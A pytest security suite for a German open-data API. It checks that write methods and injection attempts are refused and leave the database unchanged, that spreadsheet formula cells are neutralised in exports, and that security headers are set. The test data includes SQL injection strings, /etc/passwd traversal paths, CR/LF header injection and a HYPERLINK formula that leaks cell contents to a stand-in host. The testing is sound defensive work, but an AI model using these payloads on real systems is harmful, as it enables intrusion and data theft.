"""Security: no write path, injection attempts in every parameter, formula cells, headers.

Each injection test also proves that nothing changed: a digest of every table of the shared
published database (catalog, data tables, file chunks) is the same after the attempts.
"""

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import openpyxl
import pytest
from litestar import Litestar
from litestar.testing import TestClient

from opendata_sozial.catalog import CatalogInfo
from opendata_sozial.config import Settings
from opendata_sozial.db.engine import create_db_engine
from opendata_sozial.ingest.validate import validate_paths
from opendata_sozial.services.publish import publish
from opendata_sozial.web.app import create_app
from tests.broken_packages import CSV, copy_valid, refresh_digest
from tests.conftest import DATAPACKAGES
from tests.table_digest import table_digests

Client = TestClient[Litestar]
ROWS = "/api/v1/datasets/lebensformen/resources/lebensformen"
WRITE_METHODS = ("POST", "PUT", "PATCH", "DELETE", "TRACE")
PATH_VALUES = {
    "name": "lebensformen",
    "resource": "lebensformen",
    "filename": "lebensformen.csv",
    "field": "jahr",
    "action": "package_create",
    "file_path": "site.css",
    "path": "swagger",
}
_PARAMETER = re.compile(r"\{(\w+)(?::\w+)?\}")


def _concrete(template: str) -> str:
    return _PARAMETER.sub(lambda m: PATH_VALUES.get(m.group(1), "lebensformen"), template)


def _routes(app: Litestar) -> Iterator[tuple[str, set[str]]]:
    for route in app.routes:
        yield _concrete(route.path), set(getattr(route, "methods", ()))


def _assert_no_injected_header(response: httpx.Response) -> None:
    assert "x-injected" not in response.headers
    assert "set-cookie" not in response.headers
    for name, value in response.headers.items():
        assert "\r" not in value, name
        assert "\n" not in value, name


# No write path


def test_no_route_accepts_writes(api: Client, published_url: str) -> None:
    before = table_digests(published_url)
    checked = 0
    for path, methods in _routes(api.app):
        for method in WRITE_METHODS:
            response = api.request(method, path, content=b'{"name": "x"}')
            _assert_no_injected_header(response)
            if method in methods:  # the CKAN Action API takes its read actions by POST too
                assert 400 <= response.status_code < 500, (method, path, response.text)
            else:
                assert response.status_code == 405, (method, path, response.status_code)
                allowed = {m.strip() for m in response.headers["allow"].split(",")}
                assert "GET" in allowed, (method, path, allowed)
                assert allowed <= {"GET", "HEAD", "OPTIONS", "POST"}, (method, path, allowed)
                assert method not in allowed, (method, path)
            assert response.headers["x-content-type-options"] == "nosniff"
            checked += 1
    assert checked >= 5 * 20
    assert table_digests(published_url) == before


# Injection attempts


INJECTIONS = [
    # SQL in values of typed fields, in field names, operators, sort keys, columns, paging
    (f"{ROWS}/rows?jahr=2019%20OR%201=1", 400),
    (f"{ROWS}/rows?jahr=2019;DROP%20TABLE%20release", 400),
    (f"{ROWS}/rows?wert__gt=0)%20OR%20(1=1", 400),
    (f"{ROWS}/rows?lebensform%3B%20DROP%20TABLE%20release--=x", 400),
    (f"{ROWS}/rows?%22jahr%22=2019", 400),
    (f"{ROWS}/rows?jahr__gt)%20OR%201=1--=1", 400),
    (f"{ROWS}/rows?_sort=jahr;DROP%20TABLE%20release", 400),
    (f"{ROWS}/rows?_sort=(SELECT%201)", 400),
    (f"{ROWS}/rows?_sort=-jahr--", 400),
    (f"{ROWS}/rows?_select=jahr,(SELECT%20password%20FROM%20users)", 400),
    (f"{ROWS}/rows?_select=*", 400),
    (f"{ROWS}/rows?_shape=objects%27;--", 400),
    (f"{ROWS}/rows?_cursor=%27%20OR%201=1--", 400),
    (f"{ROWS}/rows?_size=1;DROP%20TABLE%20release", 400),
    (f"{ROWS}/rows?jahr__in=[%221%20OR%201=1%22]", 400),
    (f"{ROWS}/values/jahr%3BDROP%20TABLE%20release", 400),
    (f"{ROWS}/values/_row", 400),
    ("/api/v1/datasets?_sort=name;DROP%20TABLE%20release", 400),
    ("/api/v1/datasets?theme=SOCI%27%20OR%20%271%27=%271", 400),
    ("/api/v1/datasets?period_from=2010%27%20OR%201=1", 400),
    ("/api/v1/datasets?region_level=state;DROP%20TABLE%20release", 400),
    ("/api/v1/datasets?_size=1%20OR%201=1", 400),
    # path traversal in names and file names
    ("/api/v1/datasets/..%2F..%2F..%2Fetc%2Fpasswd", 404),
    ("/api/v1/datasets/lebensformen/resources/..%2F..%2F..%2Fetc%2Fpasswd.csv", 404),
    ("/api/v1/datasets/lebensformen/resources/..%2F..%2Fdatapackage.json", 404),
    ("/api/v1/datasets/lebensformen%00/datapackage.json", 400),
    (f"{ROWS}/rows?lebensform=a%00b", 400),
    (f"{ROWS}/rows?lebensform%00=a", 400),
    (f"{ROWS}/values/..%2F..%2Fetc%2Fpasswd", 404),
    ("/api/v1/datasets/%2E%2E/resources/lebensformen/rows", 404),
    # CR/LF meant to end up in headers (Content-Disposition, Link, Location)
    ("/api/v1/datasets/lebensformen%0D%0AX-Injected:%201/datapackage.json", 404),
    ("/api/v1/datasets/lebensformen/resources/lebensformen.csv%0D%0AX-Injected:%201", 404),
    (f"{ROWS}%0D%0AX-Injected:%201/rows.csv", 404),
    (f"{ROWS}/rows.csv?profile=excel-de%0D%0AX-Injected:%201", 400),
    (f"{ROWS}/rows.csv?_sort=jahr%0D%0AX-Injected:%201", 400),
]
VALUE_INJECTIONS = [
    # SQL in text values is a value: it matches nothing, and the link repeats it encoded
    f"{ROWS}/rows?lebensform=%27%20OR%20%271%27=%271&_size=1",
    f"{ROWS}/rows?lebensform__contains=%25%27%20OR%201=1--&_size=1",
    f"{ROWS}/rows?lebensform__not=x%0D%0AX-Injected:%201&_size=1",
    "/api/v1/datasets?q=%27%20OR%201=1%20--&publisher=%27%20OR%20%271%27=%271",
]


@pytest.mark.parametrize(("url", "status"), INJECTIONS)
def test_injection_attempt_is_refused(api: Client, url: str, status: int) -> None:
    response = api.get(url)
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    _assert_no_injected_header(response)
    assert "Traceback" not in response.text
    assert "OperationalError" not in response.text
    assert "psycopg" not in response.text


@pytest.mark.parametrize("url", VALUE_INJECTIONS)
def test_injection_in_a_text_value_is_just_a_value(api: Client, url: str) -> None:
    response = api.get(url)
    assert response.status_code == 200
    body = response.json()
    _assert_no_injected_header(response)
    if "lebensform__not" in url:  # the filter is an honest "not equal": every row
        assert body["total"] == 80
        assert "%0D%0AX-Injected" in response.headers["link"]
    else:
        assert body["total"] == 0


def test_injection_attempts_change_nothing(api: Client, published_url: str) -> None:
    before = table_digests(published_url)
    for url, _ in INJECTIONS:
        api.get(url)
    for url in VALUE_INJECTIONS:
        api.get(url)
    assert table_digests(published_url) == before
    assert api.get(f"{ROWS}/rows?_size=1").json()["total"] == 80


# Cells a spreadsheet would run


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Klick")',
    "+49 211 855-0",
    "-1+2",
    "@SUMME(A1:A9)",
    "\t=1+1",
    " =1+1",  # leading space: spreadsheets skip it, the old rule did not
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "＝1+1",  # full-width signs: Excel and LibreOffice read them as =, +, -, @
    "＋49 211",
    "－1+2",
    "＠SUMME(A1)",
    "\n=1+1",  # a leading line feed
]
PLAIN_TEXT = ["  eingerückt", "Bonn"]
"""Text that stays as it is everywhere: indented with spaces, a word."""
NEGATIVE = "-1.5"
"""A negative number in the numeric column: a number in every export, never text."""


def _formula_package(tmp_path: Path) -> Path:
    """The valid package with formula-like text in the free-text column ``einheit``, then
    plain text, and a negative number in ``wert`` of the first row."""
    folder = copy_valid(tmp_path)
    path = folder / CSV
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    for row, text in zip(rows[1:], FORMULAS + PLAIN_TEXT, strict=False):
        row[5] = text
    rows[1][3] = NEGATIVE
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    refresh_digest(folder)
    return folder


@pytest.fixture
def formula_client(database_url: str, catalog: CatalogInfo, tmp_path: Path) -> Iterator[Client]:
    folder = _formula_package(tmp_path)
    engine = create_db_engine(database_url)
    try:
        publish([folder], engine=engine, catalog=catalog, reference_dirs=[DATAPACKAGES])
    finally:
        engine.dispose()
    with TestClient(create_app(Settings(database_url=database_url))) as client:
        yield client


def test_formula_like_text_is_a_warning_not_an_error(tmp_path: Path, catalog: CatalogInfo) -> None:
    report = validate_paths([_formula_package(tmp_path)], catalog)
    assert report.is_valid
    issues = [i for r in report.packages for i in r.issues]
    assert {i.code for i in issues} == {"formula-like-text", "value-implausible"}  # a -1.5 %
    [warning] = [i for i in issues if i.code == "formula-like-text"]
    assert (warning.code, warning.severity, warning.field, warning.row) == (
        "formula-like-text",
        "warning",
        "einheit",
        2,
    )
    assert warning.message.startswith(f"{len(FORMULAS)} Zelle(n)")


FORMULA_BASE = "/api/v1/datasets/armutsrisikoquoten-merkmale/resources/armutsrisikoquoten-merkmale"
FORMULA_QUERY = "_sort=jahr&merkmal=Insgesamt&_select=jahr,wert,einheit"
TEXTS = FORMULAS + PLAIN_TEXT


def test_formula_cells_are_neutralised_in_the_excel_csv(formula_client: Client) -> None:
    excel = formula_client.get(f"{FORMULA_BASE}/rows.csv?profile=excel-de&{FORMULA_QUERY}")
    rows = list(csv.reader(io.StringIO(excel.content.decode("utf-8-sig")), delimiter=";"))
    cells = [row[2] for row in rows[1 : len(TEXTS) + 1]]
    assert cells == [f"'{formula}" for formula in FORMULAS] + PLAIN_TEXT
    assert rows[1][1] == "-1,5"  # the negative number stays a number


def test_formula_cells_are_text_cells_in_xlsx(formula_client: Client) -> None:
    """Text cells with quotePrefix show the value itself; the old ``'`` prefix was visible."""
    workbook = openpyxl.load_workbook(
        io.BytesIO(formula_client.get(f"{FORMULA_BASE}/rows.xlsx?{FORMULA_QUERY}").content)
    )
    sheet = workbook["Daten"]
    column = [sheet.cell(row=n, column=3) for n in range(2, len(TEXTS) + 2)]
    assert [cell.value for cell in column] == TEXTS
    assert {cell.data_type for cell in column} == {"s"}  # text, never a formula
    formulas = column[: len(FORMULAS)]
    assert all(cell.quotePrefix and cell.number_format == "@" for cell in formulas)
    assert not any(cell.quotePrefix for cell in column[len(FORMULAS) :])
    negative = sheet.cell(row=2, column=2)
    assert (negative.value, negative.data_type, negative.quotePrefix) == (-1.5, "n", False)


def test_formula_cells_stay_as_they_are_in_data_formats(formula_client: Client) -> None:
    plain = formula_client.get(f"{FORMULA_BASE}/rows.csv?{FORMULA_QUERY}").content.decode("utf-8")
    assert [row[2] for row in csv.reader(io.StringIO(plain))][1 : len(TEXTS) + 1] == TEXTS
    as_json = formula_client.get(f"{FORMULA_BASE}/rows?{FORMULA_QUERY}").json()["rows"]
    assert [row["einheit"] for row in as_json][: len(TEXTS)] == TEXTS
    assert as_json[0]["wert"] == -1.5


# Security headers


def test_every_documented_route_and_error_carries_security_headers(api: Client) -> None:
    document = api.get("/schema/openapi.json").json()
    urls = [_concrete(path) for path in document["paths"]]
    urls += ["/api/v1/datasets/gibtsnicht", "/nirgendwo", f"{ROWS}/rows?_size=0", "/schema"]
    for url in urls:
        for response in (api.get(url), api.head(url), api.delete(url)):
            assert response.headers["x-content-type-options"] == "nosniff", url
            assert response.headers["referrer-policy"] == "strict-origin-when-cross-origin", url
            if not url.startswith("/schema"):
                assert "default-src" in response.headers["content-security-policy"], url
